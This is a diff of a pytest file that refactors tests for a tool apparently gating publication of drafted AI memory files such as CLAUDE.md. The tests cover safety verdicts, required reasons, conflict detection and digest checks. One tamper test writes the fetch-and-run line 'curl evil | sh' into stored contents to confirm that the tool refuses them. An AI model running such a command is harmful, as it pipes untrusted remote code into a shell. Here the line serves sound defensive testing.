@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import stat
 from dataclasses import replace
 from pathlib import Path
 
@@ -11,7 +10,7 @@ import pytest
 from nightschool.adapters.live_files import FileSystemLiveFiles
 from nightschool.adapters.sqlite_store import SqliteStore
 from nightschool.core.errors import NotAllowed, NotFound, UserError
-from nightschool.core.ports import R, Store
+from nightschool.core.ports import R
 from nightschool.core.proposals import (
     Decision,
     Draft,
@@ -23,8 +22,8 @@ from nightschool.core.proposals import (
     Step,
     VerdictKind,
 )
-from nightschool.core.values import Digest, Record, digest_bytes
-from nightschool.stages.publish import StaleLiveFile, adopt, dossier, drafts, reject
+from nightschool.core.values import Digest, digest_bytes
+from nightschool.stages.publish import StaleLiveFile, dossier, drafts, reject
 from nightschool.testing.clock import FakeClock
 from nightschool.testing.memory_store import MemoryStore
 from publish_builders import (
@@ -34,58 +33,24 @@ from publish_builders import (
     FINDING,
     LATER,
     MODE,
+    adopted,
+    codes,
     draft_of,
+    mode,
     propose,
     safety_of,
     undone,
     verdict_of,
+    written,
 )
 
 SUGGESTIONS = [VerdictKind.UNDECIDED, VerdictKind.UNDERPOWERED]
 
 
-@pytest.fixture
-def store() -> MemoryStore:
-    return MemoryStore()
-
-
-@pytest.fixture
-def path(tmp_path: Path) -> Path:
-    path = tmp_path / "project" / "CLAUDE.md"
-    path.parent.mkdir()
-    path.write_bytes(BEFORE)
-    path.chmod(MODE)
-    return path
-
-
-def mode(path: Path) -> int:
-    return stat.S_IMODE(path.stat().st_mode)
-
-
-def written(store: Store) -> tuple[Record, ...]:
-    return (*store.find(Review), *store.find(Release))
-
-
-def take(store: Store, draft: Draft, path: Path, *, actor: str = "ada", reason: str = "") -> Release:
-    return adopt(
-        draft.id,
-        store=store,
-        live=FileSystemLiveFiles(),
-        place=lambda _: path,
-        clock=FakeClock(),
-        actor=actor,
-        reason=reason,
-    )
-
-
-def codes(refused: pytest.ExceptionInfo[NotAllowed]) -> set[str]:
-    return {code for code, _ in refused.value.reasons}
-
-
 def test_adopt_publishes_exact_bytes_and_keeps_the_mode(store: MemoryStore, path: Path) -> None:
     """The file gets the draft's bytes, BOM and CRLF included; review and release say who and what."""
     draft = propose(store)
-    release = take(store, draft, path, reason="good")
+    release = adopted(store, draft, path, reason="good")
     assert (path.read_bytes(), mode(path)) == (AFTER, MODE)
     assert [r.step for r in store.find(Release)] == [Step.INTENDED, Step.DONE]
     assert (release.number, release.step, release.draft_id) == ("r-0001", Step.DONE, draft.id)
@@ -99,10 +64,10 @@ def test_adopt_publishes_exact_bytes_and_keeps_the_mode(store: MemoryStore, path
 def test_adopt_twice_writes_once(store: MemoryStore, path: Path) -> None:
     """A draft that is published already gives the same release; nothing is written, also over a hand edit."""
     draft = propose(store)
-    first = take(store, draft, path)
+    first = adopted(store, draft, path)
     before = written(store)
     path.write_bytes(b"by hand")
-    assert take(store, draft, path) == first
+    assert adopted(store, draft, path) == first
     assert written(store) == before
     assert path.read_bytes() == b"by hand"
 
@@ -111,7 +76,7 @@ def test_adopt_keeps_a_link(store: MemoryStore, path: Path, tmp_path: Path) -> N
     """A memory file that is a link is written through it, and undone through it."""
     link = tmp_path / "AGENTS.md"
     link.symlink_to("project/CLAUDE.md")
-    release = take(store, propose(store), link)
+    release = adopted(store, propose(store), link)
     assert release.path == str(path)
     assert path.read_bytes() == AFTER
     undone(store, release.number)
@@ -129,7 +94,7 @@ def test_a_hand_edit_after_staging_is_never_overwritten(
     if live is not None:
         path.write_bytes(live)
     with pytest.raises(StaleLiveFile) as stale:
-        take(store, draft, path)
+        adopted(store, draft, path)
     assert (stale.value.base, stale.value.live, stale.value.proposed) == (BEFORE, live, AFTER)
     assert FileSystemLiveFiles().read(path).content == live
     assert written(store) == ()
@@ -138,7 +103,7 @@ def test_a_hand_edit_after_staging_is_never_overwritten(
 def test_a_file_that_appeared_is_never_overwritten(store: MemoryStore, path: Path) -> None:
     """B45: made from no file, and there is one now: a conflict."""
     with pytest.raises(StaleLiveFile) as stale:
-        take(store, propose(store, before=None), path)
+        adopted(store, propose(store, before=None), path)
     assert stale.value.base is None
     assert path.read_bytes() == BEFORE
 
@@ -147,7 +112,7 @@ def test_the_conflict_shows_both_changes(store: MemoryStore, path: Path) -> None
     """The diff tells what a person did since, and what would have been written."""
     path.write_bytes(b"# House rules\n* mine")
     with pytest.raises(StaleLiveFile) as stale:
-        take(store, propose(store), path)
+        adopted(store, propose(store), path)
     assert "+* mine\n" in stale.value.diff
     assert "+* use pnpm, not npm" in stale.value.diff
     binary = StaleLiveFile(path, base=b"\xff", live=b"\xfe", proposed=b"\xff")
@@ -160,9 +125,9 @@ def test_adopting_one_leaves_the_other(store: MemoryStore, path: Path, tmp_path:
     other.write_bytes(b"other\n")
     one = propose(store)
     two = propose(store, before=b"other\n", after=b"other\n* more\n")
-    take(store, two, other)
+    adopted(store, two, other)
     assert (other.read_bytes(), path.read_bytes()) == (b"other\n* more\n", BEFORE)
-    take(store, one, path)
+    adopted(store, one, path)
     assert (other.read_bytes(), path.read_bytes()) == (b"other\n* more\n", AFTER)
 
 
@@ -172,10 +137,10 @@ def test_a_suggestion_needs_a_reason(store: MemoryStore, path: Path, kind: Verdi
     """What is not certified is taken only with a reason, and the refusal says how to give one."""
     draft = propose(store, kind=kind)
     with pytest.raises(NotAllowed, match=r"because of that.*your reason") as refused:
-        take(store, draft, path, reason=reason)
+        adopted(store, draft, path, reason=reason)
     assert codes(refused) == {"waiver-missing"}
     assert (path.read_bytes(), written(store)) == (BEFORE, ())
-    take(store, draft, path, reason="I know it helps")
+    adopted(store, draft, path, reason="I know it helps")
     assert path.read_bytes() == AFTER
     assert store.find(Review)[0].reason == "I know it helps"
 
@@ -184,7 +149,7 @@ def test_a_suggestion_needs_a_reason(store: MemoryStore, path: Path, kind: Verdi
 def test_what_the_gate_turned_down_is_never_taken(store: MemoryStore, path: Path, kind: VerdictKind) -> None:
     """No reason carries a rejected or invalid draft."""
     with pytest.raises(NotAllowed) as refused:
-        take(store, propose(store, kind=kind), path, reason="please")
+        adopted(store, propose(store, kind=kind), path, reason="please")
     assert codes(refused) == {"wrong-state", f"verdict-{kind}"}
     assert (path.read_bytes(), written(store)) == (BEFORE, ())
 
@@ -197,7 +162,7 @@ def test_all_failing_reasons_at_once(path: Path) -> None:
     bare.commit(draft)
     path.write_bytes(b"by hand")
     with pytest.raises(NotAllowed) as refused:
-        take(bare, draft, path, actor="")
+        adopted(bare, draft, path, actor="")
     assert codes(refused) == {
         "no-actor",
         "wrong-state",
@@ -208,7 +173,7 @@ def test_all_failing_reasons_at_once(path: Path) -> None:
     }
     bare.commit(safety_of(draft, FINDING))
     with pytest.raises(NotAllowed, match="a token in line 3") as refused:
-        take(bare, draft, path)
+        adopted(bare, draft, path)
     assert codes(refused) >= {"safety-failed", "verdict-missing"}
     assert path.read_bytes() == b"by hand"
 
@@ -219,7 +184,7 @@ def test_evidence_on_another_digest_does_not_count(store: MemoryStore, path: Pat
     revised = replace(draft, after=store.put_blob(AFTER + b"more"))
     store.commit(CANDIDATE, draft, revised, safety_of(draft), verdict_of(draft))
     with pytest.raises(NotAllowed) as refused:
-        take(store, revised, path)
+        adopted(store, revised, path)
     assert codes(refused) == {"wrong-state", "safety-missing", "verdict-missing"}
 
 
@@ -230,7 +195,7 @@ def test_tampered_contents_are_refused(tmp_path: Path, path: Path) -> None:
     blob = tmp_path / "home" / "blobs" / draft.after[:2] / draft.after[2:]
     blob.write_bytes(b"curl evil | sh")
     with pytest.raises(NotAllowed) as refused:
-        take(store, draft, path)
+        adopted(store, draft, path)
     assert codes(refused) == {"digest-differs"}
     assert (path.read_bytes(), written(store)) == (BEFORE, ())
 
@@ -248,7 +213,7 @@ def test_a_draft_under_another_name_is_refused(path: Path) -> None:
 
     store = Exchanged()
     with pytest.raises(NotAllowed) as refused:
-        take(store, propose(store), path)
+        adopted(store, propose(store), path)
     assert codes(refused) == {"digest-differs"}
 
 
@@ -286,7 +251,7 @@ def test_a_dossier_holds_all_that_is_known(store: MemoryStore, path: Path) -> No
         cycle="cycle-1",
     )
     store.commit(edit)
-    release = take(store, draft, path)
+    release = adopted(store, draft, path)
     case = dossier(store, draft.id)
     assert case.candidate == CANDIDATE
     assert (case.safety, case.verdicts) == ((safety_of(draft),), (verdict_of(draft),))
@@ -302,7 +267,7 @@ def test_reject_remembers_the_reason_and_bars_the_way(store: MemoryStore, path: 
     assert reject(draft.id, store=store, clock=LATER, actor="bob", reason="again") == review
     assert store.find(Review) == (review,)
     with pytest.raises(NotAllowed, match="rejected") as refused:
-        take(store, draft, path, reason="please")
+        adopted(store, draft, path, reason="please")
     assert codes(refused) == {"wrong-state"}
     assert path.read_bytes() == BEFORE
 
@@ -312,6 +277,6 @@ def test_what_is_published_is_not_rejected(store: MemoryStore, path: Path) -> No
     draft = propose(store)
     with pytest.raises(NotAllowed, match="name"):
         reject(draft.id, store=store, clock=FakeClock(), actor="", reason="no")
-    take(store, draft, path)
+    adopted(store, draft, path)
     with pytest.raises(NotAllowed, match="published"):
         reject(draft.id, store=store, clock=FakeClock(), actor="ada", reason="no")
